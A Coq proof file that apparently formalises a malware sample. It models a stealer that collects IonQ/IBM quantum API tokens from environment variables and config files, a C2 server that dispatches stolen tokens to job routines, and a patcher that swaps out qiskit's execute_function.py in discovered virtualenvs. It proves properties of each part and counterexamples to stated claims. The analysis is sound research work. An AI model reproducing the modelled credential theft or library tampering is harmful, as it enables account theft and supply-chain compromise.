  unfold scan_variable, set_variables, gets, mbind, M_bind. cbn.
  destruct (environ w !! v) as [t|]; cbn; [case_bool_decide; cbn|];
    by rewrite ?app_nil_r, ?set_sent_id.
Qed.

Lemma scan_variables key vars : ∀ w,
  for_each vars (scan_variable key) w =
    (Ret (), set_sent (sent w ++ map (λ t, token_message key (JStr t))
                                     (set_variables (environ w) vars)) w).
Proof.
  induction vars as [|v vars IH]; intros w; cbn [for_each].
  - cbn. by rewrite app_nil_r, set_sent_id.
  - rewrite (bind_ret _ _ _ _ _ (scan_variable_sends key v w)), IH.
    by rewrite (set_variables_cons (environ w) v vars), map_app, app_assoc.
Qed.

Lemma scan_environment_sends w :
  scan_environment w =
    (Ret (), set_sent (sent w ++ environment_messages (environ w)) w).
Proof.
  change (scan_environment w) with
    ((for_each ["IONQ_API_KEY"; "IONQ_API_TOKEN"; "QISKIT_IONQ_API_TOKEN"]
        (scan_variable "IonQ") ;; mret ()) w).
  rewrite (bind_ret _ _ _ _ _ (scan_variables _ _ w)).
  unfold environment_messages, _env. cbn [flat_map]. by rewrite app_nil_r.
Qed.

Section token_stealer.
Context `{codec : Codec}.

Lemma run_after_directories w w1 :
  scan_directories w = (Ret (), w1) → run w = scan_environment w1.
Proof. intros H. unfold run. by rewrite (bind_ret _ _ _ _ _ H). Qed.

(** C3, as amended: once the directory phase has returned, [run] posts
    one [/token] message for every non-empty variable of the provider's
    list, in the declared order, and returns.  With [IONQ_API_KEY] unset
    and [IONQ_API_TOKEN] set to ["xyz"], the first IonQ message carries
    ["xyz"]; it is the only one exactly when [QISKIT_IONQ_API_TOKEN] is
    unset or empty. *)
Theorem environment_tokens_sent w w1 :
  scan_directories w = (Ret (), w1) →
  run w = (Ret (), set_sent (sent w1 ++ environment_messages (environ w1)) w1) ∧
  (environ w1 !! "IONQ_API_KEY" = None →
   environ w1 !! "IONQ_API_TOKEN" = Some "xyz" →
   ∃ later, environment_messages (environ w1) = token_message "IonQ" (JStr "xyz") :: later ∧
            (later = [] ↔ environ w1 !! "QISKIT_IONQ_API_TOKEN" = None ∨
                           environ w1 !! "QISKIT_IONQ_API_TOKEN" = Some "")).
Proof.
  intros Hdir. split.
  - rewrite (run_after_directories _ _ Hdir). apply scan_environment_sends.
  - intros Hkey Htoken. unfold environment_messages, set_variables, _env. cbn.
    rewrite Hkey, Htoken. cbn.
    eexists. split; [done|].
    destruct (environ w1 !! "QISKIT_IONQ_API_TOKEN") as [t|]; cbn; [|naive_solver].
    case_bool_decide; cbn; [subst; naive_solver|].
    split; [done|]. intros [?|[= ?]]; done.
Qed.

(** *** The directory phase *)




Lemma scan_file_sends w d user key loc bytes data token :
  fs w !! join3 d user (path loc) = Some (File bytes) →
  json_load bytes = Some data →
  reduce_getitem (keys loc) data = inr token →
  scan_file d user (key, loc) w =
    (Ret (), set_sent (sent w ++ [token_message key token]) w).
Proof.
  intros Hf Hj Hk. unfold scan_file. py_unfold.
  rewrite (isfile_File _ _ _ Hf). cbn. unfold read_json. by rewrite Hf, Hj, Hk.
Qed.





End token_stealer.

(** ** The C2 receiver *)

Import quantum_c2.

Section c2.
Context `{codec : Codec}.

(** The header and the body are read: the three pieces of the
    acknowledgment are written next, before anything is parsed. *)
Lemma do_POST_acknowledges self t s n text :
  content_length self = Some s → int_of_str s = Some n →
  utf8_decode (rfile_read n (rfile self)) = Some text →
  do_POST self t =
    (if bool_decide (path self = "/token") then
       data ← loads text; _jobs data
     else if bool_decide (path self = "/circuit") then
       data ← loads text; circuit ← lift (getitem data "circuit"); mret ()
     else mret ()) (t ++ ack).
Proof.
  intros Hc Hn Hd. unfold do_POST. rewrite Hc, Hn.
  unfold mbind at 1, M_bind at 1, mret at 1, M_ret at 1. rewrite Hd.
  unfold mbind at 1, M_bind at 1, mret at 1, M_ret at 1.
  unfold emit, modify, mbind at 1 2 3, M_bind at 1 2 3.
  by rewrite <- !app_assoc.
Qed.

Lemma jobs_known data (routine : value → M (list event) ()) p token t :
  getitem data "provider" = inr p → routine_table p = inr routine →
  getitem data "token" = inr token →
  _jobs data t = routine token t.
Proof.
  intros Hp Hr Ht. unfold _jobs, mbind, M_bind.
  rewrite Hp. cbn. rewrite Hr. cbn. by rewrite Ht.
Qed.

Lemma jobs_unknown data p t :
  getitem data "provider" = inr (JStr p) → p ∉ ["IBM"; "QI"; "IonQ"] →
  _jobs data t = (Raise KeyError, t).
Proof.
  intros Hp Hnot. unfold _jobs, mbind, M_bind. rewrite Hp. cbn.
  rewrite !bool_decide_false; [done|..]; intros ->; apply Hnot;
    repeat first [apply list_elem_of_here | apply list_elem_of_further].
Qed.

(** C6: a POST to [/token] whose header and body are read and whose body
    parses to [data].
    - [data] is [{"provider": "IBM", "token": "t"}]: after the
      acknowledgment the handler calls the IBM routine with ["t"], no
      other routine, and returns.
    - The provider of [data] is a string other than ["IBM"], ["QI"] and
      ["IonQ"]: the handler raises [KeyError] after the acknowledgment
      and calls no routine. *)
Theorem provider_dispatch self t s n text data :
  path self = "/token" →
  content_length self = Some s → int_of_str s = Some n →
  utf8_decode (rfile_read n (rfile self)) = Some text →
  json_loads text = Some data →
  (data = JObj [("provider", JStr "IBM"); ("token", JStr "t")] →
     do_POST self t = (Ret (), t ++ ack ++ [jobs_ibm (JStr "t")])) ∧
  (∀ p, getitem data "provider" = inr (JStr p) → p ∉ ["IBM"; "QI"; "IonQ"] →
     do_POST self t = (Raise KeyError, t ++ ack)).
Proof.
  intros Hpath Hc Hn Hd Hj.
  pose proof (do_POST_acknowledges self t s n text Hc Hn Hd) as ->.
  rewrite bool_decide_true by done.
  assert (loads text (t ++ ack) = (Ret data, t ++ ack)) as Hl
    by (unfold loads; by rewrite Hj).
  rewrite (bind_ret _ _ _ _ _ Hl). split.
  - intros ->.
    rewrite (jobs_known _ _jobs_ibm (JStr "IBM") (JStr "t")) by reflexivity.
    unfold _jobs_ibm, emit, modify. by rewrite <- app_assoc.
  - intros p Hp Hnot. by apply jobs_unknown with p.
Qed.

Lemma routine_table_inr p routine token t :
  routine_table p = inr routine →
  ∃ e, is_job_call e ∧ routine token t = (Ret (), t ++ [e]).
Proof.
  destruct p as [|b|z|x|s0|l|l]; cbn; try done.
  repeat case_bool_decide; intros [= <-]; eexists; (split; [|reflexivity]); done.
Qed.

(** Whatever the document, [_jobs] returns or raises, and all it does is
    call at most one of the three routines. *)
Lemma jobs_outcome data t :
  ∃ r later, _jobs data t = (r, t ++ later) ∧ r ≠ Hang ∧ Forall is_job_call later.
Proof.
  assert (∀ e, ∃ r later, (@Raise () e, t) = (r, t ++ later) ∧ r ≠ Hang ∧
                          Forall is_job_call later) as Hraise.
  { intros e. exists (Raise e), []. by rewrite app_nil_r. }
  unfold _jobs, mbind, M_bind.
  destruct (getitem data "provider") as [e|p]; cbn; [apply Hraise|].
  destruct (routine_table p) as [e|routine] eqn:Hr; cbn; [apply Hraise|].
  destruct (getitem data "token") as [e|token]; cbn; [apply Hraise|].
  destruct (routine_table_inr p routine token t Hr) as (e & He & ->).
  exists (Ret ()), [e]. split_and!; [done..|]. by constructor.
Qed.

(** C9, as amended: a GET is answered with status 200 and the fixed
    greeting.  A POST whose [Content-Length] header is present and
    accepted by [int()], with a length from 0 to the number of body
    bytes that were sent, and whose body, the bytes of that length,
    decodes as UTF-8, is answered with status 200 and the body ["Ack!"],
    written before the body is parsed or dispatched: whatever the path,
    whether or not the body is JSON and whichever keys it has, the
    handler's trace starts with the acknowledgment and goes on with
    calls of job routines only. *)
Theorem acknowledgment_first self t s n text :
  content_length self = Some s → int_of_str s = Some n →
  (0 ≤ n ≤ Z.of_nat (String.length (rfile self)))%Z →
  utf8_decode (str.slice_to (Z.to_nat n) (rfile self)) = Some text →
  do_GET t = (Ret (), t ++ [send_response 200; end_headers; wfile_write "Hello, world!"]) ∧
  ∃ r later, do_POST self t = (r, t ++ ack ++ later) ∧ r ≠ Hang ∧
             Forall is_job_call later.
Proof.
  intros Hc Hn Hrange Hd.
  assert (utf8_decode (rfile_read n (rfile self)) = Some text) as Hread.
  { unfold rfile_read. rewrite bool_decide_false by lia. done. }
  clear Hd. rename Hread into Hd. split.
  { unfold do_GET, emit, modify, mbind, M_bind. by rewrite <- !app_assoc. }
  rewrite (do_POST_acknowledges self t s n text Hc Hn Hd).
  assert (∀ r, r ≠ Hang → ∃ r' later,
            (r, t ++ ack) = (r' : res (), t ++ ack ++ later) ∧ r' ≠ Hang ∧
            Forall is_job_call later) as Hstop.
  { intros r Hr. exists r, []. by rewrite !app_nil_r. }
  case_bool_decide; [|case_bool_decide].
  - unfold loads, mbind, M_bind.
    destruct (json_loads text) as [data|]; cbn; [|by apply Hstop].
    destruct (jobs_outcome data (t ++ ack)) as (r & later & -> & Hr & Hl).
    exists r, later. by rewrite <- app_assoc.
  - unfold loads, mbind, M_bind.
    destruct (json_loads text) as [data|]; cbn; [|by apply Hstop].
    destruct (getitem data "circuit"); cbn; by apply Hstop.
  - by apply Hstop.
Qed.
End c2.

(** ** Concrete runs *)

(** C3 as stated fails: with [IONQ_API_KEY] unset, [IONQ_API_TOKEN] set
    to ["xyz"] and the later [QISKIT_IONQ_API_TOKEN] set to ["abc"], [run]
    posts two IonQ messages, not one. *)
Lemma later_variable_is_sent_too :
  let final := @token_stealer.run ascii_codec host_ionq in
  (environ host_ionq !! "IONQ_API_KEY" = None ∧
   environ host_ionq !! "IONQ_API_TOKEN" = Some "xyz") ∧
  final.1 = Ret () ∧
  sent final.2 = [ token_stealer.token_message "IonQ" (JStr "xyz");
                   token_stealer.token_message "IonQ" (JStr "abc") ].
Proof. vm_compute. done. Qed.

Lemma environment_tokens_sent_witness :
  @token_stealer.run ascii_codec host_ionq =
    (Ret (), set_sent (sent host_ionq ++ environment_messages (environ host_ionq)) host_ionq) ∧
  (environ host_ionq !! "IONQ_API_KEY" = None →
   environ host_ionq !! "IONQ_API_TOKEN" = Some "xyz" →
   ∃ later, environment_messages (environ host_ionq) =
              token_stealer.token_message "IonQ" (JStr "xyz") :: later ∧
            (later = [] ↔ environ host_ionq !! "QISKIT_IONQ_API_TOKEN" = None ∨
                           environ host_ionq !! "QISKIT_IONQ_API_TOKEN" = Some "")).
Proof.
  apply (@environment_tokens_sent ascii_codec host_ionq host_ionq).
  reflexivity.
Defined.



(** A configuration without the ["token"] key, on a machine: [run]
    raises [KeyError] and has posted nothing. *)
Lemma missing_key_propagates :
  @token_stealer.run ascii_codec host_bob = (Raise KeyError, host_bob).
Proof. reflexivity. Qed.

Lemma provider_dispatch_witness :
  @quantum_c2.do_POST ascii_codec post_ibm_token [] =
    (Ret (), [] ++ ack ++ [quantum_c2.jobs_ibm (JStr "t")]).
Proof.
  apply (proj1 (@provider_dispatch ascii_codec post_ibm_token [] "33" 33
                  (token_post_text "IBM" "t")
                  (JObj [("provider", JStr "IBM"); ("token", JStr "t")])
                  eq_refl eq_refl eq_refl eq_refl eq_refl)).
  reflexivity.
Defined.

(** An unknown provider, on a request: [KeyError] after the
    acknowledgment, no routine called. *)
Lemma unknown_provider_raises :
  @quantum_c2.do_POST ascii_codec post_unknown_provider [] = (Raise KeyError, ack).
Proof. reflexivity. Qed.

(** C9 as stated fails: a POST without a [Content-Length] header raises
    before anything is written; no status, no body. *)
Lemma post_without_length_is_not_answered :
  @quantum_c2.do_POST ascii_codec post_without_length [] = (Raise TypeError, []).
Proof. reflexivity. Qed.

Lemma acknowledgment_first_witness :
  quantum_c2.do_GET [] =
    (Ret (), [] ++ [quantum_c2.send_response 200; quantum_c2.end_headers;
                    quantum_c2.wfile_write "Hello, world!"]) ∧
  ∃ r later, @quantum_c2.do_POST ascii_codec post_unknown_provider [] = (r, [] ++ ack ++ later) ∧
             r ≠ Hang ∧ Forall is_job_call later.
Proof.
  apply (@acknowledgment_first ascii_codec post_unknown_provider [] "37" 37
           (token_post_text "Rigetti" "t")); [reflexivity | reflexivity | | reflexivity].
  vm_compute. split; discriminate.
Defined.

(** * Further properties of the code *)

(** ** [_patch_qiskit], call by call *)

(** The four things a call of [_patch_qiskit] can do to the file system:
    nothing; bring the backup back (restore, both files there); move the
    target to the backup and stop there (the copy failed); or move it and
    install the replacement. *)
Lemma patch_qiskit_cases w loc restore :
  let orig := join loc "execute_function.py" in
  let bkp := join loc "execute_function.py.org" in
  ∃ f', _patch_qiskit loc restore w = (Ret (), set_fs f' w) ∧
    (f' = fs w
     ∨ (∃ a c, fs w !! orig = Some (File a) ∧ fs w !! bkp = Some (File c) ∧
               restore = true ∧ f' = <[orig := File c]> (delete bkp (delete orig (fs w))))
     ∨ (∃ a, fs w !! orig = Some (File a) ∧ fs w !! bkp = None ∧
             (f' = <[bkp := File a]> (delete orig (fs w))
              ∨ ∃ pl, f' = <[orig := File pl]> (<[bkp := File a]> (delete orig (fs w)))))).
Proof.
  intros orig bkp. pose proof (original_ne_backup loc) as Hob. fold orig bkp in Hob.
  destruct (isfile (fs w) orig) eqn:Ho.
  2:{ exists (fs w). rewrite set_fs_id. split; [by apply patch_no_qiskit | by left]. }
  apply isfile_true in Ho as [a Ho].
  destruct (fs w !! bkp) as [[c|]|] eqn:Eb.
  - destruct restore.
    + eexists. split; [by apply (restore_patched w loc a c)|]. right. left. by exists a, c.
    + exists (fs w). rewrite set_fs_id.
      split; [apply patch_already_patched; by apply (isfile_File _ _ c) | by left].
  - assert (isfile (fs w) bkp = false) as Hb by (unfold isfile; by rewrite Eb).
    assert (_patch_qiskit loc restore w = _patch_qiskit loc false w) as ->
      by (destruct restore; [by apply restore_flag_ignored | done]).
    exists (fs w). split; [|by left].
    unfold _patch_qiskit. py_unfold. fold orig bkp.
    rewrite (isfile_File _ _ _ Ho). cbn. rewrite Hb. cbn.
    unfold rename. by rewrite Ho, Eb.
  - assert (isfile (fs w) bkp = false) as Hb by (by apply isfile_None).
    assert (_patch_qiskit loc restore w = _patch_qiskit loc false w) as ->
      by (destruct restore; [by apply restore_flag_ignored | done]).
    unfold _patch_qiskit. py_unfold. fold orig bkp.
    rewrite (isfile_File _ _ _ Ho). cbn. rewrite Hb. cbn.
    rewrite (rename_File _ _ _ a) by (by rewrite ?Eb). cbn.
    set (f1 := <[bkp := File a]> (delete orig (fs w))).
    assert (f1 !! orig = None) as Hgone.
    { unfold f1. rewrite lookup_insert_ne by done. apply lookup_delete_eq. }
    destruct (copy_outcome f1 (join (cwd w) "execute_function.py") orig)
      as [(pl & _ & ->) | (e & He & ->)].
    + unfold isdir. by rewrite Hgone.
    + cbn. eexists. split; [done|]. right. right. exists a.
      split_and!; [done..|]. right. by exists pl.
    + cbn. rewrite He. eexists. split; [done|]. right. right. exists a.
      split_and!; [done..|]. by left.
Qed.

(** X1: a call of [_patch_qiskit], with either value of [restore]
    and in any state, returns; it leaves every path other than the
    target and its backup as it was, and touches nothing of the machine
    but the file system. *)
Theorem patch_qiskit_touches_two_paths w loc restore :
  ∃ f', _patch_qiskit loc restore w = (Ret (), set_fs f' w) ∧
        ∀ p, p ≠ join loc "execute_function.py" → p ≠ join loc "execute_function.py.org" →
             f' !! p = fs w !! p.
Proof.
  destruct (patch_qiskit_cases w loc restore) as (f' & E & H).
  exists f'. split; [done|]. intros p Hp1 Hp2.
  destruct H as [-> | [(a & c & _ & _ & _ & ->) | (a & _ & _ & [-> | (pl & ->)])]];
    by simplify_map_eq.
Qed.

Lemma patch_qiskit_pristine w loc restore :
  ∃ w', _patch_qiskit loc restore w = (Ret (), w') ∧ pristine (fs w') loc = pristine (fs w) loc.
Proof.
  pose proof (original_ne_backup loc) as Hob.
  destruct (patch_qiskit_cases w loc restore) as (f' & E & H).
  eexists. split; [done|]. cbn. unfold pristine.
  destruct H as [-> | [(a & c & Ho & Hb & _ & ->) | (a & Ho & Hb & [-> | (pl & ->)])]];
    by simplify_map_eq.
Qed.

(** X2: no sequence of patch and restore calls on a location
    loses the library's own file.  Every call returns, and the content of
    the backup if there is one, of the target otherwise, is after the
    calls what it was before them. *)
Theorem original_bytes_survive (flags : list bool) w loc :
  ∃ w', for_each flags (_patch_qiskit loc) w = (Ret (), w') ∧
        pristine (fs w') loc = pristine (fs w) loc.
Proof.
  revert w. induction flags as [|restore flags IH]; intros w; [by exists w|].
  destruct (patch_qiskit_pristine w loc restore) as (w1 & E1 & H1).
  destruct (IH w1) as (w' & E' & H').
  exists w'. cbn [for_each]. rewrite (bind_ret _ _ _ _ _ E1). split; [done | congruence].
Qed.

(** ** The record, call by call *)

Lemma add_patch_noop path w : path ∈ _m_data w → _add_patch path w = (Ret (), w).
Proof.
  intros Hin. unfold _add_patch, gets, mbind at 1, M_bind. cbn.
  by rewrite bool_decide_true.
Qed.

Lemma remove_patch_noop path w : path ∉ _m_data w → _remove_patch path w = (Ret (), w).
Proof.
  intros Hin. unfold _remove_patch, gets, mbind at 1, M_bind. cbn.
  by rewrite bool_decide_false.
Qed.

(** What the two methods do after they have edited the record leaves the
    record alone. *)
Lemma locations_loop_m_data (Q : list string → Prop) path restore :
  preserves (on_m_data Q)
    (_site_package path ≫= λ paths, for_each paths (λ p, _patch_qiskit p restore)).
Proof.
  apply preserves_bind; [apply site_package_m_data|].
  intros paths. apply preserves_for_each. intros p. apply patch_qiskit_m_data.
Qed.

Lemma add_patch_record path w :
  path ∉ _m_data w → _m_data (_add_patch path w).2 = _m_data w ++ [path].
Proof.
  intros Hin. unfold _add_patch, gets, modify, mbind at 1 2, M_bind. cbn.
  rewrite bool_decide_false by done.
  apply (locations_loop_m_data (λ l, l = _m_data w ++ [path]) path false
           (set_m_data (_m_data w ++ [path]) w)).
  done.
Qed.

Lemma remove_patch_record path w :
  path ∈ _m_data w → _m_data (_remove_patch path w).2 = list_remove path (_m_data w).
Proof.
  intros Hin. unfold _remove_patch, gets, modify, mbind at 1 2, M_bind. cbn.
  rewrite bool_decide_true by done. cbn.
  apply (locations_loop_m_data (λ l, l = list_remove path (_m_data w)) path true
           (set_m_data (list_remove path (_m_data w)) w)).
  done.
Qed.

Lemma list_remove_last x l : x ∉ l → list_remove x (l ++ [x]) = l.
Proof.
  induction l as [|y l IH]; intros Hx; cbn.
  - by rewrite bool_decide_true.
  - apply not_elem_of_cons in Hx as [Hne Hx].
    rewrite bool_decide_false by done. by rewrite IH.
Qed.

(** X3: [_add_patch] is idempotent.  In every state, calling it
    twice on a path has the outcome and the effect of calling it once:
    the second call finds the path on the record and returns at once. *)
Theorem add_patch_idempotent path w :
  (_add_patch path ;; _add_patch path) w = _add_patch path w.
Proof.
  unfold mbind at 1, M_bind at 1.
  destruct (_add_patch path w) as [[[]|e|] w1] eqn:E; [|done..].
  apply add_patch_noop.
  destruct (decide (path ∈ _m_data w)) as [Hin | Hnin].
  - rewrite (add_patch_noop _ _ Hin) in E. by injection E as <-.
  - pose proof (add_patch_record path w Hnin) as Hrec. rewrite E in Hrec. cbn in Hrec.
    rewrite Hrec. apply elem_of_app. right. apply list_elem_of_here.
Qed.

(** X4: on a record without duplicates, [_remove_patch] is
    idempotent: the second call on a path finds it gone from the record
    and returns at once, without visiting any location again. *)
Theorem remove_patch_idempotent path w :
  NoDup (_m_data w) →
  (_remove_patch path ;; _remove_patch path) w = _remove_patch path w.
Proof.
  intros Hnd. unfold mbind at 1, M_bind at 1.
  destruct (_remove_patch path w) as [[[]|e|] w1] eqn:E; [|done..].
  apply remove_patch_noop.
  destruct (decide (path ∈ _m_data w)) as [Hin | Hnin].
  - pose proof (remove_patch_record path w Hin) as Hrec. rewrite E in Hrec. cbn in Hrec.
    rewrite Hrec. by apply list_remove_NoDup_notin.
  - rewrite (remove_patch_noop _ _ Hnin) in E. by injection E as <-.
Qed.

Lemma remove_patch_idempotent_witness :
  let w := set_m_data ["/venv"] patched_host in
  (_remove_patch "/venv" ;; _remove_patch "/venv") w = _remove_patch "/venv" w.
Proof.
  apply (remove_patch_idempotent "/venv" (set_m_data ["/venv"] patched_host)).
  simpl. apply NoDup_singleton.
Defined.

(** X5: a path that is not on the record is put at its end by
    [_add_patch] before anything else happens, so it is there whatever
    the outcome of the call; and when the call has returned,
    [_remove_patch] of the same path leaves the record as it was before
    the two calls. *)
Theorem add_then_remove_record path w :
  path ∉ _m_data w →
  _m_data (_add_patch path w).2 = _m_data w ++ [path] ∧
  ∀ w1, _add_patch path w = (Ret (), w1) →
        _m_data (_remove_patch path w1).2 = _m_data w.
Proof.
  intros Hnin. pose proof (add_patch_record path w Hnin) as Hrec.
  split; [done|]. intros w1 E. rewrite E in Hrec. cbn in Hrec.
  rewrite remove_patch_record, Hrec.
  - by apply list_remove_last.
  - rewrite Hrec. apply elem_of_app. right. apply list_elem_of_here.
Qed.

Lemma add_then_remove_record_witness :
  _m_data (_add_patch "/venv" unpatched_host).2 = _m_data unpatched_host ++ ["/venv"] ∧
  ∀ w1, _add_patch "/venv" unpatched_host = (Ret (), w1) →
        _m_data (_remove_patch "/venv" w1).2 = _m_data unpatched_host.
Proof.
  apply (add_then_remove_record "/venv" unpatched_host).
  simpl. apply not_elem_of_nil.
Defined.

(** X6: [restore_state] is idempotent, in every state: when it
    returns the record is empty, so that a second call right after it
    does nothing; when it does not return, the second call is not
    reached. *)
Theorem restore_state_idempotent w :
  (restore_state ;; restore_state) w = restore_state w ∧
  ∀ w', restore_state w = (Ret (), w') → _m_data w' = [].
Proof.
  assert (∀ w', restore_state w = (Ret (), w') → _m_data w' = []) as Hempty.
  { intros w' E. pose proof (restore_state_outcome w) as H. rewrite E in H.
    destruct H as [[_ ?] | [? _]]; done. }
  split; [|done].
  unfold mbind at 1, M_bind at 1.
  destruct (restore_state w) as [[[]|e|] w1] eqn:E; [|done..].
  unfold restore_state, gets, mbind, M_bind. by rewrite (Hempty w1 eq_refl).
Qed.

(** ** [_site_package], in full *)

(** The loop's result is the nearest ancestor with a [lib] entry. *)
Lemma climb_ret_nearest w fuel path a :
  climb_to_lib fuel path w = (Ret a, w) →
  ∃ k, a = ancestor k path ∧
       (∀ j, j < k → exists_ (fs w) (join (ancestor j path) "lib") = false) ∧
       exists_ (fs w) (join a "lib") = true.
Proof.
  revert path. induction fuel as [|fuel IH]; intros path; [done|].
  cbn. py_unfold.
  destruct (exists_ (fs w) (join path "lib")) eqn:Hlib; cbn.
  - intros [= <-]. exists 0. split_and!; [done| |done]. intros j Hj. lia.
  - intros (k & -> & Hbelow & Hk)%IH. exists (S k). split_and!; [done| |done].
    intros [|j] Hj; [done|]. apply Hbelow. lia.
Qed.

(** A loop that spins at every fuel has met no [lib] entry at all. *)
Lemma climb_hang_no_lib w path :
  (∀ fuel, climb_to_lib fuel path w = (Hang, w)) →
  ∀ j, exists_ (fs w) (join (ancestor j path) "lib") = false.
Proof.
  intros Hh j. revert path Hh. induction j as [|j IH]; intros path Hh.
  - specialize (Hh 1). revert Hh. cbn. py_unfold.
    by destruct (exists_ (fs w) (join path "lib")).
  - cbn. apply IH. intros fuel. pose proof (Hh (S fuel)) as Hs. revert Hs. cbn. py_unfold.
    specialize (Hh 1). revert Hh. cbn. py_unfold.
    destruct (exists_ (fs w) (join path "lib")) eqn:E; cbn; [done|]. done.
Qed.

(** X7: [_site_package] never writes, and what it does is
    decided by the nearest ancestor of the path (the path itself
    included) that has an entry called [lib].
    - That entry is a directory: the call returns the location
      [<ancestor>/lib/site-packages/qiskit] followed by
      [<ancestor>/lib/<d>/site-packages/qiskit] for every entry [d] of
      the directory, in listing order.
    - That entry is a regular file: the call raises
      [NotADirectoryError].
    - No ancestor has such an entry: the call does not return. *)
Theorem site_package_outcome path w :
  (_site_package path w).2 = w ∧
  ((∃ k entries,
      (∀ j, j < k → exists_ (fs w) (join (ancestor j path) "lib") = false) ∧
      listdir (join (ancestor k path) "lib") (fs w) = (Ret entries, fs w) ∧
      (_site_package path w).1 =
        Ret (join4 (ancestor k path) "lib" "site-packages" "qiskit" ::
             map (λ d, join4 (join (ancestor k path) "lib") d "site-packages" "qiskit") entries))
   ∨ (∃ k c,
      (∀ j, j < k → exists_ (fs w) (join (ancestor j path) "lib") = false) ∧
      fs w !! join (ancestor k path) "lib" = Some (File c) ∧
      (_site_package path w).1 = Raise NotADirectoryError)
   ∨ ((∀ j, exists_ (fs w) (join (ancestor j path) "lib") = false) ∧
      (_site_package path w).1 = Hang)).
Proof.
  destruct (climb_outcome w (S (String.length path)) path) as [(a & Ha & Hlib) | Hh].
  - apply climb_ret_nearest in Ha as (k & -> & Hbelow & _).
    unfold exists_ in Hlib. apply bool_decide_eq_true_1 in Hlib as [[c|] Hn].
    + rewrite (site_package_lib_is_file w k path c Hbelow Hn).
      split; [done|]. right. left. by exists k, c.
    + destruct (site_package_found w k path Hbelow Hn) as (entries & Hl & ->).
      split; [done|]. left. by exists k, entries.
  - pose proof (climb_hang_forever w path Hh) as Hall.
    unfold _site_package. rewrite (bind_hang _ _ _ _ (Hall _)).
    split; [done|]. right. right. split; [|done]. by apply climb_hang_no_lib.
Qed.

(** ** Discovery: what can come out of it *)

Lemma patch_loop_returns paths restore : ∀ w,
  ∃ w', for_each paths (λ p, _patch_qiskit p restore) w = (Ret (), w').
Proof.
  induction paths as [|p paths IH]; intros w; [by exists w|].
  destruct (patch_qiskit_cases w p restore) as (f' & E & _).
  destruct (IH (set_fs f' w)) as (w' & E').
  exists w'. cbn [for_each]. by rewrite (bind_ret _ _ _ _ _ E).
Qed.

Lemma site_package_raises path w e w' :
  _site_package path w = (Raise e, w') → e = NotADirectoryError.
Proof.
  intros E.
  destruct (climb_outcome w (S (String.length path)) path) as [(a & Ha & Hlib) | Hh].
  - apply climb_ret_nearest in Ha as (k & -> & Hbelow & _).
    unfold exists_ in Hlib. apply bool_decide_eq_true_1 in Hlib as [[c|] Hn].
    + rewrite (site_package_lib_is_file w k path c Hbelow Hn) in E. congruence.
    + destruct (site_package_found w k path Hbelow Hn) as (entries & Hl & E').
      congruence.
  - unfold _site_package in E. by rewrite (bind_hang _ _ _ _ Hh) in E.
Qed.

Lemma locations_loop_raises path restore w e w' :
  (_site_package path ≫= λ paths, for_each paths (λ p, _patch_qiskit p restore)) w
    = (Raise e, w') →
  e = NotADirectoryError.
Proof.
  unfold mbind, M_bind. destruct (_site_package path w) as [[locs|e0|] w2] eqn:E.
  - destruct (patch_loop_returns locs restore w2) as (w3 & ->). done.
  - intros [= <- <-]. by apply site_package_raises in E.
  - done.
Qed.

(** [_add_patch] raises nothing but the [NotADirectoryError] of
    [os.listdir]. *)
Lemma add_patch_raises path w e w' :
  _add_patch path w = (Raise e, w') → e = NotADirectoryError.
Proof.
  unfold _add_patch. unfold mbind at 1, M_bind at 1, gets.
  case_bool_decide as Hin; [done|].
  unfold mbind at 1, M_bind at 1, modify. apply locations_loop_raises.
Qed.

Lemma scan_environ_raises entries : ∀ w e w',
  LinuxPatcher.scan_environ entries w = (Raise e, w') → e = NotADirectoryError.
Proof.
  induction entries as [|x rest IH]; intros w e w'; cbn; [done|].
  destruct (str.startswith x "VIRTUAL_ENV"); [apply add_patch_raises|].
  destruct (str.startswith x "PATH="); [|apply IH].
  unfold mbind, M_bind.
  destruct (_add_patch _ w) as [[[]|e0|] w1] eqn:E; [apply IH | | done].
  intros [= <- <-]. by apply add_patch_raises in E.
Qed.

(** X11: how far [LinuxPatcher._processes_data] keeps one process
    from another.  A process whose environment block cannot be opened is
    passed over with the machine unchanged, and an exception met while
    the roots of a block are patched (a [lib] that is not a directory)
    ends that block only: the remaining processes are handled from the
    state reached.  A block that is no text is not covered: the
    [UnicodeDecodeError] of the read is no [OSError], it leaves
    [_processes_data] at that process and the remaining processes are
    not handled. *)
Theorem linux_discovery_isolates_os_errors_only p rest w :
  (proc_environ p = Unopenable →
     LinuxPatcher._processes_data (p :: rest) w = LinuxPatcher._processes_data rest w) ∧
  (∀ block e w1,
     proc_environ p = Text block →
     LinuxPatcher.scan_environ (str.split "000" block) w = (Raise e, w1) →
     LinuxPatcher._processes_data (p :: rest) w = LinuxPatcher._processes_data rest w1) ∧
  (proc_environ p = Undecodable →
     LinuxPatcher._processes_data (p :: rest) w = (Raise UnicodeDecodeError, w)).
Proof.
  unfold LinuxPatcher._processes_data. cbn [for_each].
  unfold mbind, M_bind, try_except. split_and!.
  - by intros ->.
  - intros block e w1 -> E. rewrite E.
    by rewrite (scan_environ_raises _ _ _ _ E).
  - by intros ->.
Qed.

Lemma linux_discovery_isolates_os_errors_only_witness :
  LinuxPatcher._processes_data
    [ Process 9 "python3" Unopenable None;
      Process 10 "python3" (Text (environ_block ["VIRTUAL_ENV=/bad"])) None;
      Process 12 "python3" Undecodable None;
      Process 11 "python3" (Text (environ_block ["VIRTUAL_ENV=/venv"])) None ]
    host_two_roots =
  (Raise UnicodeDecodeError, set_m_data ["/bad"] host_two_roots).
Proof.
  rewrite (proj1 (linux_discovery_isolates_os_errors_only
             (Process 9 "python3" Unopenable None) _ host_two_roots) eq_refl).
  rewrite (proj1 (proj2 (linux_discovery_isolates_os_errors_only
             (Process 10 "python3" (Text (environ_block ["VIRTUAL_ENV=/bad"])) None)
             _ host_two_roots))
           (environ_block ["VIRTUAL_ENV=/bad"]) NotADirectoryError
           (set_m_data ["/bad"] host_two_roots) eq_refl eq_refl).
  apply (proj2 (proj2 (linux_discovery_isolates_os_errors_only
           (Process 12 "python3" Undecodable None)
           [Process 11 "python3" (Text (environ_block ["VIRTUAL_ENV=/venv"])) None]
           (set_m_data ["/bad"] host_two_roots)))
         eq_refl).
Defined.

(** X12: in an environment block, the first entry that starts with
    [VIRTUAL_ENV] (the test has no [=]) ends the scan of the block.  The
    entries before it are handled as in a block that ends there, a
    [PATH] entry among them having the directory above its first
    component patched; when that has returned, the root handed to
    [_add_patch] is the [VIRTUAL_ENV] entry without its first twelve
    characters.  The entries after it, a [PATH] among them, are not
    looked at. *)
